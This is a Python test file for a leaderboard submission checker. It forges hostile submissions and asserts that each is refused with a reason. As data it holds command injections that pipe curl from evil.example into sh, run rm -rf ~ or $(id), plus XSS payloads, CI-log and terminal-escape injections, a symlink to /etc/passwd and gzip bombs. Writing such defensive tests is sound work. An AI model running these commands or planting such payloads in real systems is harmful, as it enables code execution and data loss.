"""Submissions that are meant to deceive or to hurt: each is refused with a reason, or shown harmlessly."""

from __future__ import annotations

import gzip
import json
import os
import random
import re
import shutil
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from tests.cpu import cpu_within
from tests.leaderboard.factories import (
    TASK,
    answered,
    as_unit,
    bomb,
    change_last,
    gold,
    harmless_but_nasty,
    kept_by,
    lines_of,
    missing,
    of_a_plugin,
    put,
    put_lines,
    put_rows,
    put_run,
    renamed,
    restate,
    rows_of,
    settle,
)
from weval.joined import Joined
from weval.leaderboard import checked
from weval.leaderboard.bundle import SCORES_GZ, Bundle
from weval.leaderboard.card import CARD
from weval.leaderboard.changes import CHANGES
from weval.leaderboard.check import MAX_PROBLEM, Verdict, check, read_card
from weval.leaderboard.gold import GoldIndex, gold_index
from weval.leaderboard.recompute import recomputed
from weval.leaderboard.tree import RERUNS, Entry
from weval.results import Result
from weval.store import RESULT, RUN, ScoreRow

MAX_SECONDS = 30.0
"""For one of these to be refused, on a slow machine; most take a tenth of one."""

Forge = Callable[[Entry], object]


class Hostile(NamedTuple):
    """How a submission is forged, and a part of the reason for which it is refused."""

    name: str
    forge: Forge
    reason: str


# --- short ways of forging ---------------------------------------------------------------------------------------


def card(**fields: Any) -> Forge:
    return lambda entry: put(entry.model_folder / CARD, fields)


def record(**fields: Any) -> Forge:
    """run.json says something else, and all that is computed agrees with it."""
    return lambda entry: put(entry.folder / RUN, {name.replace("__", "."): value for name, value in fields.items()})


def stated(name: str, value: Any) -> Forge:
    return lambda entry: put(entry.folder / RESULT, {name: value})


def text(file: str, change: Callable[[str], str]) -> Forge:
    def forge(entry: Entry) -> None:
        path = entry.folder / file if (entry.folder / file).exists() else entry.model_folder / file
        path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")

    return forge


def lines(change: Callable[[list[bytes]], list[bytes]]) -> Forge:
    return lambda entry: put_lines(entry, change(lines_of(entry)))


def first(**fields: Any) -> Forge:
    """The first answer says something else; nothing follows from it, as it could not be computed."""

    def change(found: list[bytes]) -> list[bytes]:
        return [json.dumps(json.loads(found[0]) | fields, separators=(",", ":")).encode() + b"\n", *found[1:]]

    return lines(change)


def raw(content: Callable[[Entry], bytes]) -> Forge:
    return lambda entry: (entry.folder / SCORES_GZ).write_bytes(content(entry))


def scores(value: Callable[[ScoreRow], float]) -> Forge:
    return lambda entry: put_rows(entry, answered(entry, value))


def change(**fields: Any) -> Forge:
    return lambda entry: change_last(entry, **fields)


def packed(entry: Entry) -> bytes:
    return (entry.folder / SCORES_GZ).read_bytes()


def linked(name: str, target: str = "") -> Forge:
    """A file or folder below that of the model becomes a link to itself elsewhere, or to `target`."""

    def forge(entry: Entry) -> None:
        path = entry.model_folder / name if name else entry.model_folder
        elsewhere = entry.root.parent / f"elsewhere-{path.name}"
        path.rename(elsewhere)
        path.symlink_to(target or os.path.relpath(elsewhere, path.parent))

    return forge


def fifo(name: str) -> Forge:
    def forge(entry: Entry) -> None:
        (entry.model_folder / name).unlink()
        os.mkfifo(entry.model_folder / name)

    return forge


def lying(name: str | bytes, content: bytes = b"PK\x03\x04") -> Forge:
    """One more file."""

    def forge(entry: Entry) -> None:
        path = entry.model_folder / os.fsdecode(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)

    return forge


def at_once(*forges: Forge) -> Forge:
    def forge(entry: Entry) -> None:
        for each in forges:
            each(entry)

    return forge


def deep(n: int) -> str:
    return "[" * n + "]" * n


# --- what is said of a model --------------------------------------------------------------------------------------

CARDS = [
    Hostile("a name that is turned round", card(name="length\u202egnp.exe"), "not seen (U+202E)"),
    Hostile("a name with nothing between its letters", card(name="len\u200bgth"), "not seen (U+200B)"),
    Hostile("a name with a filler that is a letter", card(name="length\u3164"), "not seen (U+3164)"),
    Hostile("a name with a variant of nothing", card(name="length\ufe0f"), "not seen (U+FE0F)"),
    Hostile("a name over two lines", card(name="length\nRules"), "not seen (U+000A)"),
    Hostile("a name that moves the cursor", card(name="length\x1b[2J"), "not seen (U+001B)"),
    Hostile("a name that climbs over the lines above", card(name="lengtx" + "\u0323\u0331\u0317"), "marks on it"),
    Hostile("a name in pieces", card(name="le\u0301ngth"), "NFC"),
    Hostile("a name of blanks", card(name="   "), "spaces"),
    Hostile("a name without an address", card(name="\u957f\u5ea6"), "letter from a to z"),
    Hostile("a name of 81 characters", card(name="length" + "h" * 75), "81 characters"),
    Hostile("a name of a million characters", card(name="h" * 10**6), "larger than 16,384 bytes"),
    Hostile("a name that leads out of the folder", card(name="../../etc"), "is called etc"),
    Hostile("a name that is the maintainers' folder", card(name="Paper"), "cannot be that of a model"),
    Hostile("a name with half a character", text(CARD, lambda t: t.replace('"length"', '"l\\ud800"')), "half a char"),
    Hostile("an organisation that is turned round", card(organisation="\u2066Google\u2069"), "not seen (U+2066)"),
    Hostile("a licence over two lines", card(licence="MIT\u2028GPL"), "not seen (U+2028)"),
    Hostile("a contact with a bell", card(contact="x\x07"), "not seen (U+0007)"),
    Hostile("a link that is a script", card(link="javascript:alert(1)"), "https://"),
    Hostile("a link that is a page", card(link="data:text/html,<script>alert(1)</script>"), "https://"),
    Hostile("a link without a scheme", card(link="//evil.example/"), "https://"),
    Hostile("a link with a user", card(link="https://huggingface.co@evil.example/"), "no user"),
    Hostile("a link with a port", card(link="https://example.com:8443/"), "no port"),
    Hostile("a link with port 0", card(link="https://example.com:0/"), "no port"),
    Hostile("a link that ends an attribute", card(link='https://example.com/"onmouseover="alert(1)'), "to be escaped"),
    Hostile("a link over two lines", card(link="https://exam\nple.com/"), "plain address"),
    Hostile("a link behind what is not seen", card(link="\x01https://example.com/"), "https://"),
    Hostile("a link to a machine of the network", card(link="https://intranet/"), "a host with a dot"),
    Hostile("a link in letters that look alike", card(link="https://ex\u0430mple.com/"), "plain address"),
    Hostile("a link of 10,000 characters", card(link="https://example.com/" + "a" * 9000), "characters"),
    Hostile("a key that nobody knows", card(verified=True), "verified: is not a known key"),
    Hostile("more parameters than there are", card(parameters=10**400), "parameters"),
    Hostile("parameters that are infinite", text(CARD, lambda t: t.replace("null", "1e999", 1)), "parameters"),
    Hostile(
        "a key that is there twice", text(CARD, lambda t: '{"name": "x",' + t[1:]), "the key 'name' is there twice"
    ),
    Hostile("a card nested 100,000 deep", text(CARD, lambda t: deep(10**5)), "larger than"),
    Hostile("a card nested 5,000 deep", text(CARD, lambda t: deep(5000)), "nested too deeply"),
    Hostile("a baseline that is called a judge", card(family="judge"), "a run by Length is of family baseline"),
    Hostile(
        "a plug-in that is called a baseline",
        lambda entry: of_a_plugin(entry, seed=1, family="baseline"),
        "for those that weval brings",
    ),
    Hostile(
        "a plug-in that is called a rule checker",
        lambda entry: of_a_plugin(entry, seed=1, family="rules"),
        "for those that weval brings",
    ),
    Hostile(
        "a classifier that is called a judge",
        lambda entry: (
            of_a_plugin(entry, seed=1, family="judge"),
            put_run(entry, identity__model__fingerprint={"adapter": "Classifier"}),
        ),
        "is of family scalar RM",
    ),
    Hostile(
        "a file of scores that says it is none",
        lambda entry: (
            of_a_plugin(entry, seed=1),
            put_run(entry, identity__model__fingerprint={"adapter": "ScoresFile"}),
        ),
        "looks scores up in a file",
    ),
]

# --- what was run -------------------------------------------------------------------------------------------------

# not in two: what is collected before midnight may be run after it, and a day from then is no longer the future
IN_TEN_DAYS = (datetime.now(UTC) + timedelta(days=10)).isoformat(timespec="seconds")
EVIL = "weval run --model length --task weval-mini"

RECORDS = [
    Hostile("a task that is another one's", record(identity__task__name="weval"), "is a run of weval, and lies in"),
    Hostile("an old version of the task", record(identity__task__version="0.9"), "now it is 1.0: run it again"),
    Hostile("another file", record(identity__task__sha256="0" * 64), "was made on another file"),
    Hostile("a file of their own", record(data="/home/me/items.jsonl"), "--task, not --data"),
    Hostile("the first ten items", record(identity__limit=10), "only 10 of the 60 items"),
    Hostile("the first zero items", record(identity__limit=0), "only 0 of the 60 items"),
    Hostile("another seed", record(identity__plan__seed=1), "asks otherwise than all others (seed=1)"),
    Hostile("a seed of 4,000 digits", record(identity__plan__seed=10**4000), "asks otherwise"),
    Hostile("judged on their own requirements", record(identity__plan__judged_on="own"), "judged_on=own"),
    Hostile("against one candidate", record(identity__plan__against="a5"), "against=a5"),
    Hostile("a probe as the run", record(identity__plan__probe="response_only"), "probe=response_only"),
    Hostile("partial gold", record(identity__data__gold="partial"), "task.yaml says (gold)"),
    Hostile("cut texts", record(identity__data__max_response_chars=10), "(max_response_chars)"),
    Hostile("another unit", record(identity__model__unit="requirement"), "has 300 answers; the task has"),
    Hostile("made in ten days", record(created=IN_TEN_DAYS), "not a time in the past"),
    Hostile("made at some time", record(created="2026-01-01"), "with its time zone"),
    Hostile("made at no time", record(created="<script>alert(1)</script>"), "not a time"),
    Hostile(
        "made before any time", record(created="0001-01-01T00:00:00+23:59", environment={}), "the version of weval"
    ),
    Hostile("no version", record(environment__weval=None), "the version of weval"),
    Hostile("a version that is a script", record(environment__weval="<script>"), "the version of weval"),
    Hostile("figures of their own", record(evaluate={"resamples": 100}), "evaluate is not empty"),
    Hostile("a command that goes on", record(command=f"{EVIL}; curl evil.example | sh"), "in quotes"),
    Hostile("a command within a command", record(command="weval run --model $(id)"), "in quotes"),
    Hostile("a command over two lines", record(command=f"{EVIL}\nrm -rf ~"), "in quotes"),
    Hostile("a command that is none", record(command='"'), "in quotes"),
    Hostile("another program", record(command="curl evil.example"), "not one of weval run"),
    Hostile("the command of another run", record(command=f"{EVIL} --set seed=1"), "not that of this run"),
    Hostile(
        "a metric for whoever repeats it",
        lambda entry: put_run(entry, settings={"metric": "os:system"}),
        "settings name a metric of the submitter's own",
    ),
    Hostile("an old command that goes on", record(settings=None, command=f"{EVIL} && true"), "in quotes"),
    Hostile(
        "a command that is turned round",
        lambda entry: put_run(entry, settings={"system": "\u202ehs | live lruc"}),
        "turn the text round",
    ),
    Hostile(
        "a model over two lines", lambda entry: put_run(entry, identity__model__name="length\nRules"), "not on one line"
    ),
    Hostile(
        "a model of 3,000 characters",
        lambda entry: put_run(entry, identity__model__name="classifier:" + "x" * 3000),
        "longer than 300 characters",
    ),
    Hostile(
        "a model with a password",
        lambda entry: put_run(entry, identity__model__name="http:https://me:secret@example.com/"),
        "names a user",
    ),
    Hostile("a text of 5,000 characters", record(environment__platform="x" * 5000), "environment.platform is longer"),
    Hostile("a fingerprint that moves the cursor", record(identity__model__fingerprint={"a": "\x1b[2J"}), "not seen"),
    Hostile("a key that is turned round", record(identity__model__fingerprint={"\u202e": 1}), "turn the text round"),
    Hostile("an unknown key", record(verified=True), "verified: is not a known key"),
    Hostile("a key that is there twice", text(RUN, lambda t: '{"command": "x",' + t[1:]), "'command' is there twice"),
    Hostile(
        "a key far inside that is there twice",
        text(RUN, lambda t: t.replace('"seed": 0', '"seed": 1, "seed": 0')),
        "'seed' is there twice",
    ),
    Hostile("half a character", text(RUN, lambda t: t.replace('"length"', '"\\udfff"')), "half a character"),
    Hostile("a number that is none", text(RUN, lambda t: t.replace('"limit": null', '"limit": NaN')), "limit"),
    Hostile("10 MB", text(RUN, lambda t: t + " " * 10**7), "larger than 262,144 bytes"),
    Hostile("nested 100,000 deep", text(RUN, lambda t: deep(10**5)), "nested too deeply"),
    Hostile("nested 1,000 deep in a field", record(identity__model__fingerprint=json.loads(deep(900))), "run.json"),
    Hostile("not there", lambda entry: (entry.folder / RUN).unlink(), "No such file"),
    Hostile("no JSON", text(RUN, lambda t: "run"), "is not JSON"),
    Hostile("not UTF-8", lambda entry: (entry.folder / RUN).write_bytes(b"\xff\xfe{}"), "UTF-16"),
]

# --- figures ------------------------------------------------------------------------------------------------------

FIGURES: dict[str, Any] = {
    "metrics.correlation.value": 0.99,
    "metrics.correlation.ci": [0.98, 0.999],
    "metrics.correlation.n": 6000,
    "metrics.reading": {"value": 1.0, "ci": None, "n": 57},
    "metrics.il.value": 0.9,
    "metrics.pl.value": 0.9,
    "released": {"correlation": 1.0, "il": 1.0, "pl": 1.0},
    "released.il": 0.999,
    "released_failures": "zero",
    "pessimistic.correlation": 0.9,
    "by.language.en.correlation.value": 0.9,
    "by.dropped": {},
    "diagnosis.length_bias.value": 0.0,
    "diagnosis.noise_ceiling": None,
    "diagnosis.detectable_difference.correlation": 0.001,
    "health": None,
    "n_items": 6000,
    "n_scored": 61,
    "coverage": 1.0,
    "statuses": {"ok": 3000},
    "reasons": {"refused": "<script>alert(1)</script>"},
    "notices": ["verified by the maintainers"],
    "resamples": 100,
    "cost.usd": 0.0,
    "cost.requests": 1,
    "publishable": False,
    "unpublishable_because": ["the maintainers are mean"],
    "model.name": "gpt-9",
    "model.reads_ids": True,
    "task.version": "2.0",
}
"""Fields of result.json, each with a value that its scores do not have."""


def too_many_missing(entry: Entry) -> None:
    """Two items of sixty have no score, and the result says that this is fine."""
    rows = rows_of(entry)
    gone = {row.item for row in rows[:6]}
    put_rows(entry, [missing(row, "refused", "no") if row.item in gone else row for row in rows])
    put(entry.folder / RESULT, {"publishable": True, "unpublishable_because": []})


def of_another(entry: Entry) -> None:
    other = renamed(entry, "other")
    of_a_plugin(other, seed=5)
    shutil.copy(other.folder / RESULT, entry.folder / RESULT)


RESULTS = [
    *(Hostile(f"forged {name}", stated(name, value), "recomputed") for name, value in FIGURES.items()),
    Hostile("the figures of another run", of_another, "more differences; no figure of a submission is written by hand"),
    Hostile("publishable although too much is missing", too_many_missing, "publishable is True, recomputed False"),
    Hostile("too much missing", too_many_missing, "3.3% of the items have no score (2)"),
    Hostile("a figure that is no number", text(RESULT, lambda t: re.sub(r"-0\.23\d+", "NaN", t, count=1)), "finite"),
    Hostile("a figure that is infinite", text(RESULT, lambda t: re.sub(r"-0\.23\d+", "1e999", t, count=1)), "finite"),
    Hostile("a count of 400 digits", stated("n_items", 10**400), "n_items is 1000"),
    Hostile("a cost of 400 digits", stated("cost.tokens_in", 10**400), "cost.tokens_in is 1000"),
    Hostile("versions that are a script", stated("versions.weval", "<script>alert(1)</script>"), "versions are those"),
    Hostile("versions of more", stated("versions.verified", "1"), "versions are those"),
    Hostile(
        "a key that moves the cursor", stated("metrics.\x1b[2J\n::set-env name=x::y", None), "\\x1b[2J\\n::set-env"
    ),
    Hostile("a key of 100,000 characters", stated("metrics." + "x" * 10**5, {"value": 1, "ci": None, "n": 1}), "xxx"),
    Hostile(
        "a figure by a metric of one's own",
        stated("own", {"mine:perfect": {"value": 1.0, "ci": None, "n": 60}}),
        "own.mine:perfect is {'value': 1.0, 'ci': None, 'n': 60}, recomputed '(not there)'",
    ),
    Hostile("an unknown key", stated("verified", True), "verified: is not a known key"),
    Hostile("a key that is there twice", text(RESULT, lambda t: '{"n_items": 9,' + t[1:]), "'n_items' is there twice"),
    Hostile("another schema", stated("schema", 2), "schema"),
    Hostile("5 MB", text(RESULT, lambda t: t + " " * 5 * 10**6), "larger than"),
    Hostile("10,000 wrong fields", stated("by.category", {f"k{n}": None for n in range(10**4)}), "must be an object"),
    Hostile("200,000 wrong fields", stated("by.category", {f"{n}": 1 for n in range(2 * 10**5)}), "must be an object"),
    Hostile("an array", text(RESULT, lambda t: "[]"), "result.json"),
    Hostile("not there", lambda entry: (entry.folder / RESULT).unlink(), "No such file"),
]

# --- scores -------------------------------------------------------------------------------------------------------


def numbers(found: list[bytes], value: bytes) -> list[bytes]:
    return [re.sub(rb'"values":\[[^]]*\]', b'"values":[' + value + b"]", found[0]), *found[1:]]


def half_and_double(found: list[bytes]) -> list[bytes]:
    """The first object over two lines, the next two on one: as many lines as before, and as many objects."""
    head, tail = found[0].split(b',"item"')
    return [head + b"\n", b'"item"' + tail, found[1].rstrip() + b"," + found[2], *found[3:]]


SCORES = [
    Hostile("a score that is no number", lines(lambda f: numbers(f, b"NaN")), "finite number"),
    Hostile("a score that is infinite", lines(lambda f: numbers(f, b"-Infinity")), "finite number"),
    Hostile("a score of 1e999", lines(lambda f: numbers(f, b"1e999")), "finite number"),
    Hostile("a score of 1e200", first(values=[1e200]), "beyond 1e150"),
    Hostile("a score in words", first(values=["1"]), "must be a number"),
    Hostile("a score that is true", first(values=[True]), "must be a number"),
    Hostile("no score", first(values=[]), "with 0 values"),
    Hostile("two scores", first(values=[1.0, 2.0]), "2 values"),
    Hostile("a score nested 5,000 deep", lines(lambda f: numbers(f, deep(5000).encode())), "nested too deeply"),
    Hostile("a whole number", lines(lambda f: numbers(f, b"7")), "not written as weval submit writes it"),
    Hostile("a negative cost", first(cost_usd=-1.0), "cost_usd is below 0"),
    Hostile("negative tokens", first(tokens_out=-1), "tokens_out is below 0"),
    Hostile("negative time", first(seconds=-0.5), "seconds is below 0"),
    Hostile("a cost that overflows", lines(lambda f: [json.dumps(json.loads(x) | {"cost_usd": 1e308}).encode() + b"\n" for x in f]), "above 1e+09"),  # noqa: E501
    Hostile("tokens that overflow", first(tokens_in=10**400), "tokens_in is above"),
    Hostile("a mass of two", first(mass=2.0), "mass is a probability"),
    Hostile("the model's words", first(raw="<script>"), "the model's words"),
    Hostile("a reason of 10,000 characters", first(status="failed", values=[], reason="x" * 10**4), "a reason of more"),
    Hostile("a reason with half a character", lines(lambda f: [f[0].replace(b'"status"', b'"reason":"\\ud800","status"'), *f[1:]]), "half a character"),  # noqa: E501
    Hostile("a hard one called not applicable", first(status="not_applicable", values=[]), "only a question"),
    Hostile("a status of their own", first(status="won"), "status"),
    Hostile("a key of their own", first(verified=True), "is not a known key"),
    Hostile("an item that is none", first(item="w9999"), ":1: is not the answer about"),
    Hostile("a candidate that is none", first(candidates=["a9"]), ":1: is not the answer about"),
    Hostile("a requirement where none was asked", first(requirement="c1"), ":1: is not the answer about"),
    Hostile("another id", first(id="0" * 32), ":1: is not the answer about"),
    Hostile("a missing candidate", lines(lambda f: f[1:]), "has 299 answers; the task has 300"),
    Hostile("one answer more", lines(lambda f: [*f, f[0]]), "has 301 answers"),
    Hostile("an answer twice", lines(lambda f: [f[0], f[0], *f[2:]]), ":2: is not the answer about"),
    Hostile("lines in another order", lines(lambda f: [f[1], f[0], *f[2:]]), ":1: is not the answer about"),
    Hostile("lines in gold order", lines(sorted), "is not the answer about"),
    Hostile("two objects on a line", lines(lambda f: [f[0].rstrip() + b"," + f[1], *f[2:]]), "has 299 answers"),
    Hostile("two on a line, and an empty one", lines(lambda f: [f[0].rstrip() + b"," + f[1], b"\n", *f[2:]]), ":1: is"),
    Hostile("two on a line, and one on two", lines(half_and_double), "not written as weval submit writes it"),
    Hostile("a key that is there twice", lines(lambda f: [b'{"status":"ok",' + f[0][1:], *f[1:]]), "not written as"),
    Hostile("lines that end in CRLF", lines(lambda f: [x.replace(b"\n", b"\r\n") for x in f]), "not written as"),
    Hostile("a byte order mark", lines(lambda f: [b"\xef\xbb\xbf" + f[0], *f[1:]]), ":1: is not JSON"),
    Hostile("blanks", lines(lambda f: [f[0].replace(b":", b": "), *f[1:]]), "not written as"),
    Hostile("a JSON value over many lines", lines(lambda f: [json.dumps(json.loads(x), indent=1).encode() + b"\n" for x in f]), "answers; the task has 300"),  # noqa: E501
    Hostile("no line break at the end", lines(lambda f: [*f[:-1], f[-1].rstrip()]), "does not end with a line break"),
    Hostile("not UTF-8", lines(lambda f: [f[0].replace(b"ok", b"\xff"), *f[1:]]), ":1: is not JSON"),
    Hostile("a NUL", lines(lambda f: [f[0].replace(b"ok", b"\0"), *f[1:]]), ":1: is not JSON"),
    Hostile("nothing", lines(lambda f: []), "has 0 answers"),
    Hostile("a million lines", lines(lambda f: [b"\n"] * 10**6), "unpacks to more than 600,000 bytes"),
    Hostile("a line of 20 MB", lines(lambda f: [b"1" * 2 * 10**7 + b"\n"]), "unpacks to more than 600,000 bytes"),
    Hostile("a gzip bomb of 10 GB", raw(lambda entry: bomb(10_000)), "unpacks to more than 600,000 bytes"),
    Hostile("a file of 20 MB", raw(lambda entry: os.urandom(20 * 2**20)), "larger than 16,777,216 bytes"),
    Hostile("something behind the end", raw(lambda entry: packed(entry) + b"PK\x03\x04"), "something behind its end"),
    Hostile("two members", raw(lambda entry: packed(entry) + packed(entry)), "something behind its end"),
    Hostile("cut off", raw(lambda entry: packed(entry)[:-9]), "is cut off"),
    Hostile("a wrong checksum", raw(lambda entry: packed(entry)[:-8] + bytes(8)), "damaged"),
    Hostile("no gzip", raw(lambda entry: gzip.decompress(packed(entry))), "is not a gzip file"),
    Hostile("an empty file", raw(lambda entry: b""), "is cut off"),
    Hostile("not there", lambda entry: (entry.folder / SCORES_GZ).unlink(), "No such file"),
]  # fmt: skip


# --- gold, and other people's scores ------------------------------------------------------------------------------


def counted_gold(row: ScoreRow) -> float:
    return kept_by(row, row.candidates[0])


def pairs_of_gold(entry: Entry) -> None:
    def points(row: ScoreRow) -> tuple[float, ...]:
        one, other = (kept_by(row, name) for name in row.candidates)
        return (1.0 if one > other else 0.0,)

    as_unit(entry, "pair", points)


def lists_of_gold(entry: Entry) -> None:
    as_unit(entry, "list", lambda row: tuple(float(kept_by(row, name)) for name in row.candidates))


def kept_as_answers(yes: float, no: float) -> Forge:
    """Unit requirement, every answer on the right side of 0.5."""

    def value(row: ScoreRow) -> tuple[float, ...]:
        item = gold()[row.item]
        at = item.candidate_ids.index(row.candidates[0])
        kept = item.kept[at]
        assert not isinstance(kept, int)
        # As sure as a model: more of texts at the end, so that the ranks are not gold's while every answer is.
        return (yes * (1 + at / 4) if row.requirement in kept else no,)

    return lambda entry: as_unit(entry, "requirement", value)


def pairs_of_many_points(entry: Entry) -> None:
    pairs_of_gold(entry)
    put_lines(entry, numbers(lines_of(entry), b"1.5"))


def copied(entry: Entry) -> None:
    """The scores of `length` under another name: all else is honest."""
    copy = renamed(entry, "quite new")
    put(
        copy.folder / RUN, {"identity.model.name": "plugin:new:Model", "identity.model.fingerprint": {"adapter": "New"}}
    )
    put(copy.model_folder / CARD, {"family": "scalar RM"})
    restate(copy)


def copied_later(entry: Entry) -> None:
    """Another time and another cost for every answer."""
    copied(entry)
    copy = Entry(entry.root, "quite-new", entry.task)
    put_rows(copy, [row.model_copy(update={"seconds": 1.5, "tokens_in": 7}) for row in rows_of(copy)])


def twin(name: str) -> Forge:
    def forge(entry: Entry) -> None:
        of_a_plugin(renamed(entry, name), seed=3)

    return forge


COPIES = [
    Hostile("gold as scores", scores(counted_gold), "holds gold, not a model's scores: every one of the 60 items"),
    Hostile("gold and a constant", scores(lambda row: counted_gold(row) + 100), "holds gold"),
    Hostile("gold and what hides it", scores(lambda row: counted_gold(row) * 3.7 + len(row.item) * 11), "holds gold"),
    Hostile("gold in pairs", pairs_of_gold, "holds gold"),
    Hostile("gold in lists", lists_of_gold, "holds gold"),
    Hostile("kept requirements as answers", kept_as_answers(1.0, 0.0), "are what gold says"),
    Hostile("kept requirements, less sure", kept_as_answers(0.6, 0.4), "are what gold says"),
    Hostile("points of a pair above 1", pairs_of_many_points, "points of a pair are from 0 to 1"),
    Hostile("the answers of another", copied, "its scores are those of length, answer for answer"),
    Hostile("the answers of another, and other costs", copied_later, "its scores are those of length"),
    Hostile("a twin in other signs", twin("Leng-th"), "length is called so already, or looks like it"),
    Hostile("a twin in wide letters", twin("\uff4c\uff45ngt h"), "length is called so already"),
    Hostile("a twin in letters that look alike", twin("l\u0435ngth"), "length is called so already"),
]

# --- how it changed -----------------------------------------------------------------------------------------------


def history(*fields: dict[str, Any]) -> Forge:
    """Lines before the last one, each made of it."""

    def forge(entry: Entry) -> None:
        path = entry.model_folder / CHANGES
        last = json.loads(path.read_text(encoding="utf-8"))
        path.write_text("".join(json.dumps(last | more) + "\n" for more in (*fields, {})), encoding="utf-8")

    return forge


LOW = {"correlation": -0.9, "il": 0.0, "pl": 0.0, "reading": None}

HISTORIES = [
    Hostile("forged figures", change(after=LOW), "has other figures than the scores"),
    Hostile("the hash of other scores", change(scores="0" * 64), "is not of these scores"),
    Hostile("another version", change(version="2.0"), "is not of version 1.0"),
    Hostile("a start that never was", change(before=LOW), "line 1: 'before' is not the 'after'"),
    Hostile("a rise that never was", history({"after": LOW}), "line 2: 'before' is not the 'after'"),
    Hostile("of ten days from now", change(date=IN_TEN_DAYS[:10]), "in the future"),
    Hostile("backwards", history({"task": "a", "date": "2027-01-01"[:10]}), "or in the future"),
    Hostile("a reason that is turned round", change(why="\u202eecnad"), "not seen"),
    Hostile("a reason over two lines", change(why="better\n::error::"), "not seen, or more than one line"),
    Hostile("figures above 1", change(after=LOW | {"il": 7.0}), "must be at most 1.0"),
    Hostile("1,001 lines", text(CHANGES, lambda t: t * 1001), "more than 1,000 changes"),
    Hostile("a million lines that are none", text(CHANGES, lambda t: "x\n" * 10**6), "is not JSON"),
    Hostile("5 MB", text(CHANGES, lambda t: t + " " * 5 * 10**6), "larger than"),
    Hostile("no JSON", text(CHANGES, lambda t: "better\n"), "is not JSON"),
    Hostile("not there", lambda entry: (entry.model_folder / CHANGES).unlink(), "weval submit writes it"),
]

# --- files and folders --------------------------------------------------------------------------------------------

FILES = [
    Hostile("a card that is a link", linked(CARD), "card.json: is not a regular file"),
    Hostile("a card that leads to secrets", linked(CARD, "/etc/passwd"), "card.json: is not a regular file"),
    Hostile("a run that is a link", linked(f"weval-mini/{RUN}"), "run.json: is not a regular file"),
    Hostile("a result that is a link", linked(f"weval-mini/{RESULT}"), "result.json: is not a regular file"),
    Hostile("scores that are a link", linked(f"weval-mini/{SCORES_GZ}"), "scores.jsonl.gz: is not a regular file"),
    Hostile("scores that lead to a device", linked(f"weval-mini/{SCORES_GZ}", "/dev/zero"), "is not a regular file"),
    Hostile("a link that leads nowhere", linked(f"weval-mini/{RUN}", "../../../../nowhere"), "does not belong"),
    Hostile("changes that are a link", linked(CHANGES), "changes.jsonl: does not belong"),
    Hostile("a task that is a link", linked("weval-mini"), "is a link to another folder"),
    Hostile("a card that is a pipe", fifo(CARD), "card.json: is not a regular file"),
    Hostile("scores that are a pipe", fifo(f"weval-mini/{SCORES_GZ}"), "scores.jsonl.gz: is not a regular file"),
    Hostile("changes that are a pipe", fifo(CHANGES), "changes.jsonl: does not belong"),
    Hostile("a zip file", lying("weval-mini/scores.zip"), "scores.zip: does not belong in a submission"),
    Hostile("a program", lying("weval-mini/run.py", b"import os"), "run.py: does not belong in a submission"),
    Hostile("a page", lying("index.html", b"<script>"), "index.html: does not belong in a model's folder"),
    Hostile("scores twice", lying("weval-mini/scores.jsonl"), "scores.jsonl: does not belong"),
    Hostile("a name in other letters", lying("weval-mini/run\u202enosj.exe"), "run\\u202enosj.exe: does not belong"),
    Hostile("a name that is no text", lying(b"weval-mini/\xff\xfe.json"), "does not belong in a submission"),
    Hostile("a name that moves the cursor", lying("weval-mini/\x1b[2J"), "\\x1b[2J: does not belong"),
    Hostile("a name over two lines", lying("weval-mini/a\n::error::b"), "a\\n::error::b: does not belong"),
    Hostile("a hidden file", lying("weval-mini/.gitattributes"), ".gitattributes: does not belong"),
    Hostile("a repository inside", lying("weval-mini/.git/hooks/post-checkout"), ".git: does not belong"),
    Hostile("a folder inside", lying("weval-mini/more/run.json"), "more: does not belong"),
    Hostile("a task that is none", lying("We Val/run.json"), "We Val: is no name of a task"),
    Hostile("a probe that is none", lying("weval-mini/backwards/run.json"), "backwards: does not belong"),
    Hostile("a probe without its run", lying("weval-mini/echoed/result.json", b"{}"), "run.json: No such file"),
]


# --- probes -------------------------------------------------------------------------------------------------------


def probe_of(change: Callable[[Path], object]) -> Forge:
    return lambda entry: change(entry.folder / "swapped")


def the_run_itself(folder: Path) -> None:
    for name in (RUN, RESULT, SCORES_GZ):
        shutil.copy(folder.parent / name, folder / name)


def of_another_model(folder: Path) -> None:
    put(folder / RUN, {"identity.model.fingerprint": {"adapter": "Length", "revision": 2}})
    entry = Entry(folder.parents[2], folder.parents[1].name, folder.parent.name)
    settle(entry, "swapped")


PROBED = [
    Hostile("the run itself as its probe", probe_of(the_run_itself), "swapped/run.json: asks otherwise"),
    Hostile(
        "forged figures of a probe",
        probe_of(lambda folder: put(folder / RESULT, {"metrics.correlation.value": 0.0})),
        "swapped/result.json: metrics.correlation.value is 0, recomputed",
    ),
    Hostile(
        "another seed of a probe",
        probe_of(lambda folder: put(folder / RUN, {"identity.plan.seed": 3})),
        "swapped/run.json: asks otherwise than all others (seed=3)",
    ),
    Hostile("a probe of another model", probe_of(of_another_model), "is not the same model asked the same way"),
    Hostile("a probe that is a link", linked("weval-mini/swapped"), "swapped: does not belong in a submission"),
]


def named(table: list[Hostile]) -> Any:
    return pytest.mark.parametrize("case", [pytest.param(case, id=case.name.replace(" ", "-")) for case in table])


def problems_of(entry: Entry, *, whole: bool = False) -> list[str]:
    """Why a submission is refused. Whatever it is, the reasons are lines that a terminal can show, and come soon."""
    with cpu_within(MAX_SECONDS):
        found = check([entry.root if whole else entry.folder])
    return [problem for verdict in found for problem in problems_in(verdict)]


def problems_in(verdict: Verdict) -> Iterator[str]:
    for line in (*verdict.problems, *verdict.doubts):
        assert line.isprintable() and len(line) <= MAX_PROBLEM + 1
    yield from verdict.problems


def refused(case: Hostile, entry: Entry, *, whole: bool = False) -> None:
    case.forge(entry)
    problems = problems_of(entry, whole=whole)
    assert any(case.reason in problem for problem in problems), problems


@pytest.fixture
def plain(made: Path, tmp_path: Path) -> Entry:
    """The submission `length` without its probe and without others beside it."""
    shutil.copytree(
        made / "results" / "length", tmp_path / "results" / "length", ignore=shutil.ignore_patterns("swapped")
    )
    return Entry(tmp_path / "results", "length", TASK)


@pytest.fixture(scope="module", autouse=True)
def _computed_once() -> Iterator[None]:
    """Figures are made again once for each set of scores, and not for every lie about them."""
    known: dict[tuple[str, str], Result] = {}

    def once(bundle: Bundle, joined: Joined, index: GoldIndex) -> Result:
